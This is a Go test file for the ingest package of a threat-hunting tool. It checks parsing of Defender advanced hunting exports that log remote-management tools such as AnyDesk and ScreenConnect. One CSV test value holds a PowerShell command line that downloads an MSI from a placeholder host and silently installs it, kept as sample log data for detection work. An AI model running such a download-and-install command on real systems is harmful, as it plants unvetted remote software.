package ingest

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/rmmhunt/rmmhunt/kql/types"
	"github.com/rmmhunt/rmmhunt/schema"
)

const blobFile = "testdata/blob/insights-logs-advancedhunting-deviceprocessevents/tenantId=5b1f0c2e-7d44-4b0a-9a3e-2f6c1d8e9a10/y=2025/m=03/d=04/h=09/m=00/PT1H.json"

// want is an expected value of table.column at a row.
type want struct {
	table string
	row   int
	col   string
	val   types.Value
}

func str(s string) types.Value      { return types.NewString(s) }
func long(i int64) types.Value      { return types.NewLong(i) }
func boolean(b bool) types.Value    { return types.NewBool(b) }
func null(t types.Type) types.Value { return types.NullOf(t) }

// datetime is a datetime value from ISO 8601 text.
func datetime(s string) types.Value {
	ticks, ok := types.ParseDatetime(s)
	if !ok {
		panic("bad datetime " + s)
	}
	return types.NewDatetime(ticks)
}

// dynamic is a dynamic value from JSON text.
func dynamic(s string) types.Value {
	d, ok := types.ParseJSON(s)
	if !ok {
		panic("bad JSON " + s)
	}
	return types.NewDynamic(d)
}

func sameValue(a, b types.Value) bool {
	return a.Type == b.Type && a.Null == b.Null && a.String() == b.String()
}

func TestFormats(t *testing.T) {
	tests := []struct {
		name     string
		path     string
		opts     Options
		format   Format
		gz       bool
		read     int
		stored   int
		tables   map[string]int // rows per table
		types    map[string]types.Type
		values   []want
		warnings []string
	}{{
		name:   "Event Hub message, pretty-printed, two tables and an unknown category",
		path:   "testdata/streaming/eventhub-message.json",
		format: FormatStreaming, read: 3, stored: 2,
		tables: map[string]int{"DeviceFileCertificateInfo": 1, "DeviceProcessEvents": 1},
		types: map[string]types.Type{
			"DeviceFileCertificateInfo.MachineGroup": types.String,
			"DeviceProcessEvents.AdditionalFields":   types.String,
		},
		values: []want{
			{"DeviceFileCertificateInfo", 0, "Timestamp", datetime("2025-03-04T09:19:58.6614021Z")},
			{"DeviceFileCertificateInfo", 0, "CertificateCountersignatureTime", datetime("2025-01-15T10:02:11.5Z")},
			{"DeviceFileCertificateInfo", 0, "Signer", str("AnyDesk Software GmbH")},
			{"DeviceFileCertificateInfo", 0, "IsSigned", boolean(true)},
			{"DeviceFileCertificateInfo", 0, "IsRootSignerMicrosoft", boolean(false)},
			{"DeviceFileCertificateInfo", 0, "ReportId", long(48213)},
			{"DeviceFileCertificateInfo", 0, "CrlDistributionPointUrls", str(`["http://crl3.digicert.com/example-g4-codesign.crl"]`)},
			{"DeviceFileCertificateInfo", 0, "MachineGroup", str("Finance Workstations")},
			{"DeviceFileCertificateInfo", 0, "IssuerHash", str("")},
			{"DeviceProcessEvents", 0, "FolderPath", str(`C:\Users\jdoe\Downloads\AnyDesk.exe`)},
			{"DeviceProcessEvents", 0, "ProcessCommandLine", str(`"AnyDesk.exe" --install "C:\ProgramData\AnyDesk" --silent`)},
			{"DeviceProcessEvents", 0, "AdditionalFields", str(`{"ProcessStartKey":17732923532785621}`)},
			{"DeviceProcessEvents", 0, "MachineGroup", str("")},
			{"DeviceProcessEvents", 0, "ProcessCreationTime", null(types.Datetime)},
		},
	}, {
		name:   "storage blob JSON Lines with CRLF",
		path:   blobFile,
		format: FormatStreaming, read: 2, stored: 2,
		tables: map[string]int{"DeviceProcessEvents": 2},
		values: []want{
			{"DeviceProcessEvents", 0, "ReportId", long(48190)},
			{"DeviceProcessEvents", 1, "ProcessCommandLine", str(`"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service`)},
			{"DeviceProcessEvents", 1, "AdditionalFields", str("")},
			{"DeviceProcessEvents", 1, "MachineGroup", str("Finance Workstations")},
		},
	}, {
		name:   "gzip recognised by content, not by name",
		path:   "testdata/gzip/DeviceProcessEvents-stream",
		format: FormatStreaming, gz: true, read: 2, stored: 2,
		tables: map[string]int{"DeviceProcessEvents": 2},
		values: []want{{"DeviceProcessEvents", 1, "ReportId", long(48195)}},
	}, {
		name:   "Advanced Hunting API with Stats, 18-digit ReportId",
		path:   "testdata/api/DeviceInfo-advancedhunting.json",
		format: FormatAPI, read: 3, stored: 3,
		tables: map[string]int{"DeviceInfo": 3},
		types:  map[string]types.Type{"DeviceInfo.RiskScoreValue": types.Real},
		values: []want{
			{"DeviceInfo", 0, "ReportId", long(123456789012345678)},
			{"DeviceInfo", 1, "ReportId", long(987654321098765432)},
			{"DeviceInfo", 2, "ReportId", long(9223372036854775807)},
			{"DeviceInfo", 0, "LoggedOnUsers", str(`[{"UserName":"jdoe","DomainName":"CONTOSO","Sid":"S-1-5-21-1-2-3-1104"}]`)},
			{"DeviceInfo", 1, "LoggedOnUsers", str(`[{"UserName":"svc-backup","DomainName":"CONTOSO"}]`)},
			{"DeviceInfo", 2, "LoggedOnUsers", str("")},
			{"DeviceInfo", 2, "IsAzureADJoined", null(types.Bool)},
			{"DeviceInfo", 1, "IsAzureADJoined", boolean(false)},
			{"DeviceInfo", 0, "RiskScoreValue", types.NewReal(0.75)},
			{"DeviceInfo", 1, "RiskScoreValue", types.NewReal(2)},
			{"DeviceInfo", 2, "RiskScoreValue", null(types.Real)},
		},
		warnings: []string{"unknown column RiskScoreValue of DeviceInfo kept as an extra real column"},
	}, {
		name:   "Graph runHuntingQuery, lower-case keys, projected columns",
		path:   "testdata/api/DeviceProcessEvents-graph.json",
		format: FormatAPI, read: 2, stored: 2,
		tables: map[string]int{"DeviceProcessEvents": 2},
		types:  map[string]types.Type{"DeviceProcessEvents.ProcessCount": types.Long},
		values: []want{
			{"DeviceProcessEvents", 0, "FileName", str("ScreenConnect.ClientService.exe")},
			{"DeviceProcessEvents", 1, "ProcessCount", long(12)},
			{"DeviceProcessEvents", 1, "DeviceName", str("")},
		},
	}, {
		name:   "Log Analytics query API, table from the Type column, Timestamp from TimeGenerated",
		path:   "testdata/loganalytics/query-result.json",
		format: FormatLogAnalytics, read: 2, stored: 2,
		tables: map[string]int{"DeviceFileCertificateInfo": 2},
		types: map[string]types.Type{
			"DeviceFileCertificateInfo.TimeGenerated": types.Datetime,
			"DeviceFileCertificateInfo.SignerCount":   types.Int,
			"DeviceFileCertificateInfo.Type":          types.String,
		},
		values: []want{
			{"DeviceFileCertificateInfo", 1, "Signer", str("NinjaRMM, LLC")},
			{"DeviceFileCertificateInfo", 1, "SignerCount", types.NewInt(2)},
		},
		warnings: []string{"Timestamp filled from TimeGenerated"},
	}, {
		name:   "portal CSV: BOM, CRLF, doubled quotes, True and 1 as bools",
		path:   "testdata/csv/DeviceFileCertificateInfo-2026-11.csv",
		format: FormatCSV, read: 3, stored: 3,
		tables: map[string]int{"DeviceFileCertificateInfo": 3},
		values: []want{
			{"DeviceFileCertificateInfo", 0, "CrlDistributionPointUrls", str(`["http://crl3.digicert.com/example-g4-codesign.crl"]`)},
			{"DeviceFileCertificateInfo", 1, "IsSigned", boolean(true)},
			{"DeviceFileCertificateInfo", 1, "IsTrusted", boolean(true)},
			{"DeviceFileCertificateInfo", 1, "Signer", str("AmidaWare Inc.")},
			{"DeviceFileCertificateInfo", 1, "CrlDistributionPointUrls", str("")},
			{"DeviceFileCertificateInfo", 2, "IsTrusted", boolean(false)},
			{"DeviceFileCertificateInfo", 2, "ReportId", long(123456789012345678)},
			{"DeviceFileCertificateInfo", 2, "CertificateExpirationTime", null(types.Datetime)},
		},
	}, {
		name:   "CSV with a quoted newline and an unknown column kept as string",
		path:   "testdata/csv/DeviceProcessEvents_export.csv",
		format: FormatCSV, read: 2, stored: 2,
		tables: map[string]int{"DeviceProcessEvents": 2},
		types:  map[string]types.Type{"DeviceProcessEvents.CreatedProcessParentId": types.String},
		values: []want{
			{"DeviceProcessEvents", 0, "ProcessCommandLine", str("powershell.exe -Command \"iwr https://example.invalid/agent.msi -OutFile $env:TEMP\\a.msi\nmsiexec /i $env:TEMP\\a.msi /qn\"")},
			{"DeviceProcessEvents", 0, "AdditionalFields", str(`{"Command":"iwr"}`)},
			{"DeviceProcessEvents", 0, "CreatedProcessParentId", str("4400")},
			{"DeviceProcessEvents", 1, "ProcessId", long(4420)},
			{"DeviceProcessEvents", 1, "ReportId", long(48191)},
		},
	}, {
		name:   "Log Analytics portal CSV: TimeGenerated [UTC], US-locale dates, Type column",
		path:   "testdata/csv/la-portal-export.csv",
		format: FormatCSV, read: 2, stored: 2,
		tables: map[string]int{"DeviceFileCertificateInfo": 2},
		types:  map[string]types.Type{"DeviceFileCertificateInfo.TimeGenerated": types.Datetime},
		values: []want{
			{"DeviceFileCertificateInfo", 1, "Signer", str("NinjaRMM, LLC")},
			{"DeviceFileCertificateInfo", 1, "IsTrusted", boolean(false)},
			{"DeviceFileCertificateInfo", 0, "IsTrusted", boolean(true)},
		},
		warnings: []string{"Timestamp filled from TimeGenerated"},
	}, {
		name:   "NDJSON rows, unknown columns typed from their values",
		path:   "testdata/ndjson/DeviceProcessEvents.jsonl",
		format: FormatNDJSON, read: 3, stored: 3,
		tables: map[string]int{"DeviceProcessEvents": 3},
		types: map[string]types.Type{
			"DeviceProcessEvents.CreatedProcessParentId": types.Real,
			"DeviceProcessEvents.Extra":                  types.Dynamic,
		},
		values: []want{
			{"DeviceProcessEvents", 1, "ProcessId", long(6600)},
			{"DeviceProcessEvents", 2, "ProcessId", null(types.Long)},
			{"DeviceProcessEvents", 1, "IsProcessRemoteSession", boolean(true)},
			{"DeviceProcessEvents", 0, "CreatedProcessParentId", types.NewReal(5152)},
			{"DeviceProcessEvents", 1, "CreatedProcessParentId", null(types.Real)},
			{"DeviceProcessEvents", 2, "CreatedProcessParentId", types.NewReal(5152.5)},
			{"DeviceProcessEvents", 1, "Extra", dynamic(`{"k":[1,2]}`)},
			{"DeviceProcessEvents", 0, "Extra", null(types.Dynamic)},
			{"DeviceProcessEvents", 2, "Extra", types.NewDynamic("text")},
		},
		warnings: []string{"unknown column CreatedProcessParentId of DeviceProcessEvents kept"},
	}, {
		name:   "Log Analytics data export, table from the am- directory",
		path:   "testdata/export/am-devicefilecertificateinfo/y=2025/m=03/d=04/h=09/m=05/PT05M.json",
		format: FormatNDJSON, read: 2, stored: 2,
		tables: map[string]int{"DeviceFileCertificateInfo": 2},
		values: []want{
			{"DeviceFileCertificateInfo", 1, "Signer", str("AmidaWare Inc.")},
			{"DeviceFileCertificateInfo", 0, "TenantId", str("1d2c3b4a-0000-4e5f-8a9b-0c1d2e3f4a5b")},
		},
		warnings: []string{"Timestamp filled from TimeGenerated"},
	}, {
		name:   "empty file",
		path:   "testdata/empty/DeviceInfo.csv",
		format: FormatEmpty,
	}, {
		name:   "white space only",
		path:   "testdata/empty/DeviceInfo-blank.jsonl",
		format: FormatEmpty,
	}}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			res := load(t, tc.opts, tc.path)
			if len(res.Files) != 1 {
				t.Fatalf("files: %+v", res.Files)
			}
			fs := res.Files[0]
			if fs.Format != tc.format || fs.Compressed != tc.gz || fs.Error != "" {
				t.Errorf("file stats %+v, want format %s compressed %v", fs, tc.format, tc.gz)
			}
			if res.Read != tc.read || res.Stored != tc.stored {
				t.Errorf("read %d stored %d, want %d %d; rejects %v", res.Read, res.Stored, tc.read, tc.stored, res.Rejects)
			}
			if len(res.Tables) != len(tc.tables) {
				t.Errorf("tables %v, want %v", sortedKeys(res.Tables), tc.tables)
			}
			for name, n := range tc.tables {
				if tb := res.Tables[name]; tb == nil || tb.Rows() != n {
					t.Errorf("table %s: want %d rows", name, n)
				}
			}
			for key, ty := range tc.types {
				tbl, col, _ := strings.Cut(key, ".")
				if got := fieldType(res, tbl, col); got != ty {
					t.Errorf("%s has type %s, want %s", key, got, ty)
				}
			}
			for _, w := range tc.values {
				got := value(t, res, w.table, w.row, w.col)
				if !sameValue(got, w.val) {
					t.Errorf("%s[%d].%s = %s %v (null %v), want %s %v (null %v)", w.table, w.row, w.col,
						got.Type, got.String(), got.Null, w.val.Type, w.val.String(), w.val.Null)
				}
			}
			for _, w := range tc.warnings {
				if !hasWarning(res, w) {
					t.Errorf("no warning %q in %v", w, res.Warnings)
				}
			}
		})
	}
}

// TestTimestampFromTimeGenerated checks the filled values, and that rows
// with their own Timestamp keep it.
func TestTimestampFromTimeGenerated(t *testing.T) {
	res := load(t, Options{}, "testdata/loganalytics/query-result.json", "testdata/csv/la-portal-export.csv")
	tb := "DeviceFileCertificateInfo"
	checks := []struct {
		row  int
		want string
	}{
		{0, "2025-03-04T09:19:58.6614021Z"},
		{1, "2025-03-04T11:02:40.12Z"},
		{2, "2025-03-04T09:19:58.661Z"},
		{3, "2025-03-04T14:05:00Z"},
	}
	for _, c := range checks {
		w := datetime(c.want)
		for _, col := range []string{"Timestamp", "TimeGenerated"} {
			if got := value(t, res, tb, c.row, col); !sameValue(got, w) {
				t.Errorf("row %d %s = %v, want %v", c.row, col, got, w)
			}
		}
	}
	// A row with both keeps its own Timestamp.
	in := `{"TimeGenerated":"2025-03-04T10:00:00Z","Timestamp":"2025-03-04T09:00:00Z","DeviceName":"x"}`
	res2, err := loadString(t, "DeviceInfo.jsonl", in, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := value(t, res2, "DeviceInfo", 0, "Timestamp"); !sameValue(got, datetime("2025-03-04T09:00:00Z")) {
		t.Errorf("Timestamp = %v", got)
	}
	if hasWarning(res2, "filled from TimeGenerated") {
		t.Errorf("unexpected fill warning")
	}
}

// TestTableFromPath covers the rules that tell a table from a file path.
func TestTableFromPath(t *testing.T) {
	reg := schema.Default()
	tests := []struct{ path, want string }{
		{"DeviceFileCertificateInfo-2026-11.csv", "DeviceFileCertificateInfo"},
		{"DeviceProcessEvents.jsonl", "DeviceProcessEvents"},
		{"exports/deviceprocessevents.csv.gz", "DeviceProcessEvents"},
		{"DeviceTvmSoftwareVulnerabilitiesKB.csv", "DeviceTvmSoftwareVulnerabilitiesKB"},
		{"DeviceTvmSoftwareVulnerabilities_2026.csv", "DeviceTvmSoftwareVulnerabilities"},
		{"DeviceInfoExtra.csv", ""},
		{"am-DeviceNetworkEvents/WorkspaceResourceId=/subscriptions/x/y=2025/m=03/PT05M.json", "DeviceNetworkEvents"},
		{"insights-logs-advancedhunting-deviceregistryevents/tenantId=t/y=2025/PT1H.json", "DeviceRegistryEvents"},
		{"data/export.json", ""},
		{"", ""},
	}
	for _, tc := range tests {
		if got := tableFromPath(reg, filepath.FromSlash(tc.path)); got != tc.want {
			t.Errorf("tableFromPath(%q) = %q, want %q", tc.path, got, tc.want)
		}
	}
}
